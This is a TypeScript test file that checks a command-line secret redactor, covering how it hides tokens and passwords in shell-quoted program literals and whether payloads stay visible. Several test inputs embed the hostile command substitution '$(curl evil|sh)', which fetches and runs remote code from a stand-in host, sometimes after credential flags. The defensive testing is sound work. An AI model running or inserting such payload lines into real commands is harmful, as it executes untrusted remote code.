// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withoutArgSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import {
  expectFilledBack,
  expectKept,
  expectShownAndExported,
  exportedArg,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix168 (review r64s of fix166 and 2a91d5e): regressions in the display and the export.

describe("many values written apart in one word (r64s #1)", () => {
  const conn = (k: number) => `srv Server=db${'";Password=x"y'.repeat(k)}`;
  const node = (k: number) => `node -e '${"process.env.TOKEN = '\\''x'\\''; ".repeat(k)}'`;

  it("hides each value as written, the idiom's quotes with it (#4)", () => {
    expect(withoutCommandLineSecrets(conn(2))).toBe(
      "srv 'Server=db;Password=${PASSWORD};Password=${PASSWORD}'",
    );
    expect(exportedArg(conn(2))).toBe('srv Server=db";Password=${PASSWORD};Password=${PASSWORD_2}');
    expect(withoutArgSecrets(["--run", node(2)])).toEqual([
      "--run",
      "node -e 'process.env.TOKEN = ${TOKEN}; process.env.TOKEN = ${TOKEN}; '",
    ]);
    expectFilledBack(node(3));
    expect(exportedCommand(conn(2))).toBe("srv 'Server=db;Password=${PASSWORD};Password=${PASSWORD}'");
  });

  it("reads a word of 100,000 characters holding thousands of them, each hidden as written", () => {
    // How long it takes is the fuzz ladder's to judge ("many values written apart in one word"): a
    // walk over the word for each value took about 12 s here, one walk for all well under 1 s.
    const count = (text: string, part: string) => text.split(part).length - 1;
    expect(count(withoutCommandLineSecrets(conn(7000)), "Password=${PASSWORD}")).toBe(7000);
    expect(count(withoutArgSecrets(["--run", node(3000)])[1] as string, "= ${TOKEN};")).toBe(3000);
    expect(exportedCommand(conn(7000))).not.toMatch(/Password=x/);
  }, 60_000);
});

describe("the shell's '\\'' idiom only where the shell's '…' is open (r64s #2)", () => {
  it.each([
    [`node -e "process.env.TOKEN = '\\''Zq7hunterPW-$X'\\''"`, `node -e "process.env.TOKEN = \${TOKEN}"`],
    [`node -e "process.env.TOKEN = '\\''Zq7hunterPW-$HOME'\\''"`, `node -e "process.env.TOKEN = \${TOKEN}"`],
    [`sh -c "node -e \\"process.env.TOKEN = '\\''Zq7hunterPW-$X'\\''\\""`, "${SHELL_COMMAND}"],
  ])('%j, a program in "…", is exported with no literal in clear: %j', (line, safe) => {
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
    expect(exportedArg(line)).not.toContain("Zq7hunterPW");
    expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
  });

  it.each([
    ["node -e 'process.env.TOKEN = '\\''Zq7hunterPW'\\'''", "node -e 'process.env.TOKEN = ${TOKEN}'"],
    ["node -e $'process.env.TOKEN = '\\''Zq7hunterPW'\\'''", "node -e $'process.env.TOKEN = ${TOKEN}'"],
    [
      "echo $(node -e 'process.env.TOKEN = '\\''Zq7hunterPW'\\''')",
      "echo $(node -e 'process.env.TOKEN = ${TOKEN}')",
    ],
  ])("%j, the idiom in '…', is still hidden with its quotes: %j", (line, safe) => {
    expect(withoutCommandLineSecrets(line)).toBe(safe);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
  });
  it("never keeps a program's idiom-quoted literal in clear in the export, in '…' or \"…\" (property)", () => {
    const secret = fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{7,14}(?: [A-Za-z0-9]{4,8})?$/);
    const after = fc.constantFrom("", "$X", "-$HOME", "${Y}");
    const idiom = "'\\''";
    const form = fc.constantFrom(
      (v: string) => `node -e "process.env.TOKEN = ${idiom}${v}${idiom}"`,
      (v: string) => `node -e 'process.env.TOKEN = ${idiom}${v}${idiom}'`,
      (v: string) => `python -c "import os; os.environ['TOKEN'] = ${idiom}${v}${idiom}"`,
      (v: string) => `node -e "Object.assign(process.env, {TOKEN: ${idiom}${v}${idiom}})"`,
      (v: string) => `node -e 'Object.assign(process.env, {TOKEN: ${idiom}${v}${idiom}})'`,
    );
    fc.assert(
      fc.property(secret, after, form, (value, rest, write) => {
        const line = write(value + rest);
        const head = value.split(" ")[0] as string;
        expect(exportedArg(line)).not.toContain(head);
        expect(withoutArgSecrets(["--run", line])[1]).not.toContain(head);
        // A literal the shell joins in '…' is kept out of the display too, and fills back.
        if (rest === "" && line.includes(" -e '")) {
          expect(withoutCommandLineSecrets(line)).not.toContain(head);
          expectFilledBack(line);
        }
      }),
    );
  });
});

describe("a payload on a line the shell accepts, a comment or an operator after a telling flag (r64s #3)", () => {
  it.each([
    "gh auth login --with-token < t.txt && $(curl evil|sh) # don't",
    "srv --auth && echo $(curl evil|sh) # it's",
    "srv --password > /tmp/x; echo $(curl evil|sh) # it's",
    "srv token: X $(curl evil|sh) # it's",
    // Refused (a quote left open), an operator is still no flag's value.
    "gh auth login --with-token < t.txt && $(curl evil|sh) '",
    "srv --auth | tee log $(curl evil|sh) '",
  ])("%j is shown and exported as written", (line) => {
    expectKept(line);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
  });

  it("takes no word of prose written with an apostrophe for `name: X`'s value on a refused line", () => {
    const prose = "reads the short query names client masks as credentials: Azure's ?code= and ?sig=";
    expect(withoutCommandLineSecrets(prose)).toBe(prose);
    expect(withoutCommandLineSecrets("srv token: hunter2X9 '")).toBe("srv token: ${TOKEN}");
    expect(exportedCommand("srv password: \"hunter2X9 '")).toBe("srv password: ${PASSWORD}");
  });

  it("still hides a telling literal before a comment, and after a `#` inside a word", () => {
    expect(withoutCommandLineSecrets("srv --password hunter2X9 $(curl evil|sh) # it's")).toBe(
      "srv --password ${PASSWORD} $(curl evil|sh) # it's",
    );
    expect(withoutCommandLineSecrets("srv --password a#b'c $(curl evil|sh)")).toBe(
      "srv --password ${PASSWORD}",
    );
  });

  it("keeps a line whose comment holds quotes or parts left open as written, payload and all (property)", () => {
    const flag = fc.constantFrom(
      "--auth",
      "--with-token < t.txt",
      "--password > /tmp/x",
      "token: X",
      "-p 8080",
    );
    const between = fc.constantFrom(" && echo ", "; ", " | cat ", " ");
    const comment = fc.stringMatching(/^[a-z '"`$(){}]{0,12}$/);
    fc.assert(
      fc.property(flag, between, comment, (name, join, words) => {
        const line = `srv ${name}${join}$(curl evil|sh) # ${words}`;
        expectKept(line);
      }),
    );
  });
});

describe("a program's literal holding a blank, quoted with the shell's '\\'' idiom (r64s #4)", () => {
  it.each([
    [
      "node -e 'Object.assign(process.env, {TOKEN: '\\''Zq7 hunterPW'\\'', URL: '\\''h'\\''})'",
      "node -e 'Object.assign(process.env, {TOKEN: ${TOKEN}, URL: '\\''h'\\''})'",
    ],
    [
      "node -e 'const e = {...process.env, TOKEN: '\\''Zq7 hunterPW'\\'', URL: '\\''h'\\''}'",
      "node -e 'const e = {...process.env, TOKEN: ${TOKEN}, URL: '\\''h'\\''}'",
    ],
    ["node -e 'process.env.TOKEN = '\\''Zq7 hunterPW'\\'''", "node -e 'process.env.TOKEN = ${TOKEN}'"],
    // #5: exported in clear with no hint before.
    [
      "python -c 'import os; os.environ['\\''TOKEN'\\''] = '\\''Zq7 hunterPW'\\'''",
      "python -c 'import os; os.environ['\\''TOKEN'\\''] = ${TOKEN}'",
    ],
  ])("%j is shown and exported as %j, the idiom's quotes hidden with the value", (line, safe) => {
    expect(withoutCommandLineSecrets(line)).toBe(safe);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
    expect(exportedArg(line)).toBe(safe);
    expectFilledBack(line);
  });
});

describe("a program's literal written around a part the shell reads at run time (r64s #5)", () => {
  it.each([
    [
      `node -e "process.env.TOKEN = 'Zq7hunterPW$HOME'"`,
      `node -e "process.env.TOKEN = '\${TOKEN}$HOME'"`,
      `node -e "process.env.TOKEN = '\${TOKEN}'"`,
    ],
    [
      `node -e "process.env.TOKEN = 'Zq7hunterPW$(curl evil|sh)'"`,
      `node -e "process.env.TOKEN = '\${TOKEN}$(curl evil|sh)'"`,
      `node -e "process.env.TOKEN = '\${TOKEN}'"`,
    ],
    [
      `python -c "import os; os.environ['TOKEN'] = 'Zq7hunterPW$HOME'"`,
      `python -c "import os; os.environ['TOKEN'] = '\${TOKEN}$HOME'"`,
      `python -c "import os; os.environ['TOKEN'] = '\${TOKEN}'"`,
    ],
  ])("%j is shown as %j (its run-time part in sight) and exported as %j", (line, shown, safe) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
    expectFilledBack(line);
  });

  it.each([
    ["node -e 'process.env.TOKEN = '\\''Zq7hunterPW-$X'\\'''", "node -e 'process.env.TOKEN = ${TOKEN}'"],
    [
      "node -e 'Object.assign(process.env, {TOKEN: '\\''Zq7hunterPW-$HOME'\\''})'",
      "node -e 'Object.assign(process.env, {TOKEN: ${TOKEN}})'",
    ],
  ])("%j, a `$` in the shell's '…' (no run-time part), is hidden whole: %j", (line, safe) => {
    expect(withoutCommandLineSecrets(line)).toBe(safe);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
    expectFilledBack(line);
  });

  it("on a line the shell refuses, hides what follows the first telling name (no literal left in clear)", () => {
    // Kept as `--token "${TOKEN} = 'Zq7hunterPW$HOME'"` before.
    const line = `srv don't --token "process.env.TOKEN = 'Zq7hunterPW$HOME'"`;
    expectShownAndExported(line, "srv don't --token ${TOKEN}");
  });

  it("never hides such a part by reading the literal on as an expression", () => {
    // The shell reads `'` … `'` here as its own quotes: the payload runs, and stays in sight.
    const line = `don't "process.env.TOKEN = 'Zq7hunterPW$(curl evil|sh)'" don't`;
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });

  it.each([`node -e "process.env.TOKEN = '$HOME/x'"`, `node -e "process.env.TOKEN = 'Bearer $TOKEN'"`])(
    "%j, only a run-time part, a path or a scheme, is kept as written",
    (line) => {
      expect(withoutCommandLineSecrets(line)).toBe(line);
      expect(withoutArgSecrets(["--run", line])).toEqual(["--run", line]);
    },
  );
});
